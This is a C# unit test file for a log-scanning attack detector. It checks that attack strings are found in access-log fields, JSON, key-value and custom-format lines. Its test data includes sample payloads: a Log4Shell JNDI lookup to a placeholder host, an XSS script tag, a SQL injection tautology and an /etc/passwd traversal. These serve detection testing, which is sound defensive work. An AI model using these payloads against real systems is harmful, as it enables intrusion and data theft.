using System.Text;
using OpsModule.Engine.Areas.Attacks;
using OpsModule.Engine.Tests.Fixtures;

namespace OpsModule.Engine.Tests.Attacks;

/// <summary>Whatever a client can write is looked at, wherever it stands in a line.</summary>
public sealed class EveryPlaceTests : IDisposable
{
    private const string Combined = "203.0.113.77 - - [25/Nov/2025:10:11:12 +0100] \"GET / HTTP/1.1\" 200 4512 \"-\" \"curl/8.5\"";

    private static readonly string[] Payloads = ["${jndi:ldap://x.example.net/a}", "<script>alert(1)</script>", "1' or '1'='1", "../../../../etc/passwd"];

    private readonly TempFolder _folder = new();
    private readonly RecordingReporter _reporter = new();

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData(Combined + " \"{0}\"")] // X-Forwarded-For
    [InlineData(Combined + " \"-\" \"user=admin&pass={0}\"")] // a body
    [InlineData(Combined + " \"-\" \"sid=1; theme={0}\"")] // cookies
    [InlineData("{0} " + Combined)] // a host that was asked for
    [InlineData("203.0.113.77 - {0} [25/Nov/2025:10:11:12 +0100] \"GET / HTTP/1.1\" 200 1 \"-\" \"x\"")]
    [InlineData("2025-11-25 10:11:12 ## 203.0.113.77 ## GET /x?q={0} ## 200")]
    public async Task Of_an_access_line(string line)
    {
        foreach (string payload in Payloads) Assert.NotEmpty(await FindAsync(line.Replace("{0}", payload.Replace("\"", "\\x22"))));
    }

    [Theory]
    [InlineData("2025-11-25 10:00:00 ERROR search failed for cron: {0}")] // no program of syslog
    [InlineData("{ q: '{0}' }")] // no JSON
    [InlineData("{\"q\":1 {0}}")]
    [InlineData("<event><![CDATA[ x > {0} ]]></event>")]
    public async Task Of_a_line_that_looks_like_another_form(string line)
    {
        foreach (string payload in Payloads) Assert.NotEmpty(await FindAsync(line.Replace("{0}", payload)));
    }

    public static TheoryData<string> Fields =>
        [.. ("name host file function service version request_id correlation_id trace_id line caller env stream duration module thread logger code date t size length method verb status level severity "
            + "sql statement comment headers xff user query").Split(' ')];

    [Theory]
    [MemberData(nameof(Fields))]
    public async Task Of_a_field_whatever_it_is_called(string field)
    {
        foreach (string payload in Payloads)
        {
            string json = payload.Replace("\"", "\\\"");
            Assert.NotEmpty(await FindAsync($$"""{"ts":"2025-11-25T10:11:12Z","msg":"saved","{{field}}":"{{json}}","client_ip":"203.0.113.9"}"""));
            Assert.NotEmpty(await FindAsync($$$"""{"ts":"2025-11-25T10:11:12Z","msg":"saved","a":{"b":{"{{{field}}}":"{{{json}}}"}},"client_ip":"203.0.113.9"}"""));
            Assert.NotEmpty(await FindAsync($"ts=2025-11-25T10:11:12Z msg=saved {field}=\"{json}\" client_ip=203.0.113.9"));
        }
    }

    [Fact]
    public async Task Of_a_file_with_carriage_returns_alone()
    {
        await File.WriteAllTextAsync(_folder["old.log"], string.Concat(Enumerable.Range(0, 50).Select(i => Combined.Replace("GET /", $"GET /{i}?q=%24%7Bjndi:ldap://x/a%7D") + "\r")));
        foreach (AttackScanner scanner in (AttackScanner[])[Hunting.Usual, Hunting.Small])
            Assert.Equal(50, (await Hunting.AllAsync(scanner.ScanFileAsync(_folder["old.log"], CancellationToken.None))).Count);
        await using FileStream stream = File.OpenRead(_folder["old.log"]);
        Assert.Equal(50, (await Hunting.AllAsync(Hunting.Usual.ScanStreamAsync(stream, "x", CancellationToken.None))).Count);
    }

    [Fact]
    public async Task A_text_of_two_bytes_a_character_is_told_without_a_mark_too()
    {
        await File.WriteAllTextAsync(_folder["wide.log"], string.Concat(Enumerable.Repeat(Combined + "\r\n", 20)), new UnicodeEncoding(bigEndian: false, byteOrderMark: false));
        await Hunting.RunAsync(new AttackSources { Files = [_folder["wide.log"]] }, _reporter);
        Assert.Contains(_reporter.Warnings, w => w.Contains("UTF-16", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_form_that_is_not_known_is_told_once_with_one_of_its_lines()
    {
        string[] lines = [.. Enumerable.Range(0, 9).Select(i => $"## 203.0.113.{i} ## GET /a?q=<script>{i}</script> ## 200")];
        await File.WriteAllLinesAsync(_folder["own.log"], lines);
        Assert.Equal(9, (await Hunting.RunAsync(new AttackSources { Files = [_folder["own.log"]] }, _reporter, query: new AttackQuery())).Count);
        string warning = Assert.Single(_reporter.Warnings);
        Assert.Contains(lines[0], warning, StringComparison.Ordinal);
        Assert.Contains("attacks.formats", warning, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_pattern_of_ones_own_tells_what_such_a_line_says()
    {
        await File.WriteAllTextAsync(_folder["own.log"], "## 203.0.113.7 ## 25/Nov/2025:10:11:12 +0100 ## GET /a?q=<script>1</script> ## 404\n");
        var query = new AttackQuery { Formats = ["## {client} ## {time} ## {method} {path} ## {status}"] };
        AttackMatch match = Assert.Single(await Hunting.RunAsync(new AttackSources { Files = [_folder["own.log"]] }, _reporter, query: query));
        Assert.Equal(("203.0.113.7", "GET", "/a", 404, new DateTimeOffset(2025, 11, 25, 9, 11, 12, TimeSpan.Zero)), (match.ClientAddress, match.Method, match.Path, match.StatusCode, match.Time));
        Assert.Empty(_reporter.Warnings);
    }

    private static async Task<List<AttackMatch>> FindAsync(string line)
    {
        var stream = new MemoryStream(Encoding.UTF8.GetBytes(line));
        return await Hunting.AllAsync(Hunting.Usual.ScanStreamAsync(stream, "data", CancellationToken.None));
    }
}
